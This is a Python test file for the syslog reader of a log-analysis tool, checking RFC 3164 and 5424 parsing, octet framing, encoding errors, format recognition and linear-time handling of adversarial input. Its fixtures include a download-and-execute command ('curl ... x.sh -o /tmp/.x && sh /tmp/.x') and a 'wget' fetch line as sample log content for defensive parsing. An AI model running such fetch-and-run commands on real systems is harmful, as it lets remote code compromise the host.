"""Syslog files are recognised and read in both formats, and nothing in them stops the reader."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from haidang.events.model import FileReport
from haidang.events.readers.syslog import READER, parse_lines
from haidang.events.times import parse_time
from haidang.limits import DEFAULT_LIMITS
from tests.events.readers.feeding import feed, feed_in_time, head, sample

if TYPE_CHECKING:
    from pathlib import Path

SMALL = replace(DEFAULT_LIMITS, batch_events=3)
MTIME = 1_794_409_200.0
"""2026-11-11T15:00:00Z: ten o'clock in the evening in Việt Nam."""


def test_reads_rfc_3164_without_priority() -> None:
    seen = feed(READER, sample("syslog", "bsd.log"), limits=SMALL, mtime=MTIME)
    assert seen.report.complete
    assert seen.records == list(range(1, 9))
    assert [event["program"] for event in seen.events] == [
        "cron",
        "sshd",
        "sshd",
        "sshd",
        "sudo",
        "kernel",
        "cron",
        "postfix/smtpd",
    ]
    line = sample("syslog", "bsd.log").decode().splitlines()[3]
    assert seen.events[3] == {
        "outcome": "accepted",
        "method": "password",
        "user": "hoa.nt",
        "client_ip": "203.0.113.77",
        "time": "2026-11-11T21:59:03",
        "timestamp": "Nov 11 21:59:03",
        "hostname": "hv-gw01",
        "program": "sshd",
        "pid": "4190",
        "message": "Accepted password for hoa.nt from 203.0.113.77 port 51188 ssh2",
        "raw": line,
    }
    assert "pid" not in seen.events[4]


def test_reads_what_rsyslog_writes_with_iso_times() -> None:
    seen = feed(READER, sample("syslog", "rsyslog.log"))
    assert seen.report.complete
    assert seen.events[2]["timestamp"] == "2026-11-11T21:59:00.000001+07:00"
    assert seen.events[2]["message"] == "Started Dịch vụ một cửa điện tử."
    assert [event["program"] for event in seen.events] == ["sshd", "nginx", "systemd"]


def test_reads_rfc_5424_with_escapes_and_nil_values() -> None:
    seen = feed(READER, sample("syslog", "rfc5424.log"))
    assert seen.report.complete
    first, second, empty, _ = seen.events
    assert (first["facility"], first["severity"], first["priority"]) == ("auth", "crit", 34)
    assert (first["program"], first["pid"], first["msgid"]) == ("su", "4188", "ID47")
    assert "structured_data" not in first
    assert second["structured_data"] == {
        "ho-so@32473": {"so": "HV-2026-11", "tieude": 'Đơn "khẩn" [2]', "duong": "C:\\VanBan"},
        "meta": {"sequenceId": "7"},
    }
    assert second["message"] == "Tiếp nhận hồ sơ"
    assert set(empty) == {"message", "raw", "priority", "facility", "severity"}


def test_an_event_of_sysmon_for_linux_is_that_event() -> None:
    seen = feed(READER, sample("syslog", "sysmon.log"), mtime=MTIME)
    assert list(zip(seen.records, seen.origins, strict=True)) == [
        (2, "windows"),
        (3, "windows"),
        (5, "windows"),
        (1, "syslog"),
        (4, "syslog"),
        (6, "syslog"),
    ]
    first = seen.events[0]
    assert (first["Channel"], first["EventID"]) == ("Linux-Sysmon/Operational", "1")
    assert first["Image"] == "/usr/bin/curl"
    assert first["CommandLine"] == "curl -s http://203.0.113.77/x.sh -o /tmp/.x && sh /tmp/.x"
    # The line that syslog cut off stays what it is, and is noted.
    assert seen.problems == {"broken-line": ("line 6", 1)}
    assert seen.report.skipped == 0
    assert seen.events[-1]["message"].startswith("<Event><System>")


def test_reads_octet_counted_frames_also_several_in_a_line() -> None:
    one = "<13>1 2026-11-03T04:05:06Z h p - - - một".encode()
    two = b"<14>1 2026-11-03T04:05:06Z h p - - - two <3>"
    counted = b"".join(b"%d %s" % (len(frame), frame) for frame in (one, two))
    seen = feed(READER, counted + b"\n" + b"%d %s\n" % (len(two) + 1, two))
    assert [event["message"] for event in seen.events] == ["một", "two <3>", "two <3>"]
    assert seen.records == [1, 1, 2]
    assert seen.report.complete
    assert READER.recognises(head(counted + b"\n"))


def test_a_frame_whose_count_is_wrong_is_read_whole() -> None:
    seen = feed(READER, b"5 <13>1 - h p - - - message\n")
    assert [event["message"] for event in seen.events] == ["message"]


def test_a_line_that_is_no_syslog_line_is_kept_as_text_and_noted() -> None:
    data = b"Nov  3 04:05:06 h p: m\nwget http://203.0.113.9/x\n\nNov  3 04:05:07 h p: m\noops\n"
    seen = feed(READER, data)
    assert seen.events[1] == {"message": "wget http://203.0.113.9/x", "raw": "wget http://203.0.113.9/x"}
    assert seen.records == [1, 2, 4, 5]
    assert seen.problems == {"broken-line": ("line 2", 2)}
    assert seen.report.skipped == 0


def test_a_continuation_line_and_the_lines_of_journald_are_not_worth_a_note() -> None:
    seen = feed(READER, b"-- Boot 1 --\nNov  3 04:05:06 h java[1]: failed\n\tat vn.haivan.MotCua.main\n")
    assert seen.report.complete
    assert [event["message"] for event in seen.events][2] == "\tat vn.haivan.MotCua.main"


def test_survives_carriage_returns_a_byte_order_mark_nul_and_latin_1() -> None:
    seen = feed(READER, b"\xef\xbb\xbfNov  3 04:05:06 h p: a\r\nNov  3 04:05:06 h p: \x00\xe9\n")
    assert [event["message"] for event in seen.events] == ["a", "\x00\ufffd"]
    assert seen.problems == {"invalid-utf8": ("line 2", 1)}


@pytest.mark.parametrize(
    "line",
    [
        b'203.0.113.7 - - [03/Nov/2026:04:05:06 +0700] "GET / HTTP/1.1" 200 12 "-" "curl/8"',
        b"2026-11-03T04:05:06Z [WRN] login failed for user hoa",
        b"2026-11-03 04:05:06,123 INFO [main] started",
        b"2026-11-03T04:05:06.100Z,00E,2,192.0.2.1:143,192.0.2.2:35070,hoa",
        b"[Nov  3 04:05:06] SECURITY[77]: x",
        b'{"ts": 1, "message": "Nov  3 04:05:06 h p: m"}',
    ],
)
def test_does_not_take_other_logs_for_syslog(line: bytes) -> None:
    assert READER.recognises(head((line + b"\n") * 5)) == 0


@pytest.mark.parametrize(
    "line",
    [
        b"<13>1 - h p - - " + b'[a x="' * 200_000,
        b"<13>1 - h p - - " + b'[a x="1"]' * 200_000,
        b"<13>1 - h p - - [a " + b'x="\\' * 200_000,
        b"Nov  3 04:05:06 " + b"a:" * 500_000,
        b"Nov  3 04:05:06 " + b" " * 1_000_000 + b"x",
        b"<13>1 " + b"a " * 500_000,
        b"1 <13>" * 100_000,
    ],
)
def test_hostile_lines_take_linear_time(line: bytes) -> None:
    assert feed_in_time(READER, line + b"\n").events


def test_reads_the_syslog_files_of_the_corpora(corpora: Path) -> None:
    for pattern, count in (("ssh*.log", 9), ("charon*.log", 3), ("postfix*.log", 4), ("pfsense*.log", 3)):
        paths = sorted((corpora / "logs").glob(pattern))
        assert len(paths) == count, pattern
        for path in paths:
            data = path.read_bytes()
            assert READER.recognises(head(data, path.name)) >= 80, path
            seen = feed(READER, data)
            assert seen.report.complete, path
            assert len(seen.events) == sum(bool(line.strip()) for line in data.split(b"\n"))
            assert all(event["program"] for event in seen.events), path


def test_lines_of_both_forms_and_broken_text_may_follow_each_other() -> None:
    report = FileReport("log")
    lines = [
        b"<34>1 2026-03-01T08:00:00Z h p 1 m - new",
        b"<34>Mar  1 08:00:00 h p[1]: old",
        b"<34>Mar  1 08:00:00 h p[1]: \xff",
        b"<34>just a priority",
        b"<34>1 2026-03-01T08:00:00Z h p 1 m - new",
    ]
    events, records = parse_lines(1, lines, report)
    assert [event["message"] for event in events] == ["new", "old", "\ufffd", "just a priority", "new"]
    assert records == [1, 2, 3, 4, 5]
    assert report.problems.keys() == {"invalid-utf8"}
    assert report.problems["invalid-utf8"].where == "line 3"


@pytest.mark.parametrize(
    ("line", "seconds"),
    [
        ("Mon 2026-05-11 10:14:15 +07 web01 sshd[123]: ", 1778469255),
        ("Thu 2026-05-14 10:14:15.123456 UTC web01 sshd[123]: ", 1778753655),
        ("1778469255.123456 web01 sshd[123]: ", 1778469255),
        ("2026-05-11T10:14:15+07:00 web01 auth.info sshd[123]: ", 1778469255),
        ("2026-05-11T10:14:16+07:00 10.0.0.4 <38>May 11 2026 03:14:15 web01 sshd[123]: ", 1778469255),
        ("2026-05-11T10:14:16+07:00 relay <38>1 2026-05-11T10:14:15+07:00 web01 sshd 123 - - ", 1778469255),
    ],
)
def test_what_journalctl_busybox_and_relays_write_is_syslog(line: str, seconds: int) -> None:
    data = f"{line}Failed password for root\n".encode()
    assert READER.recognises(head(data)) >= 80
    seen = feed(READER, data)
    event = seen.events[0]
    assert (event["program"], event["pid"], event["hostname"]) == ("sshd", "123", "web01")
    assert (event["message"], event["raw"]) == ("Failed password for root", data.decode().strip())
    moment = parse_time(event.get("time", event["timestamp"]))
    assert moment is not None
    assert moment // 10**9 == seconds
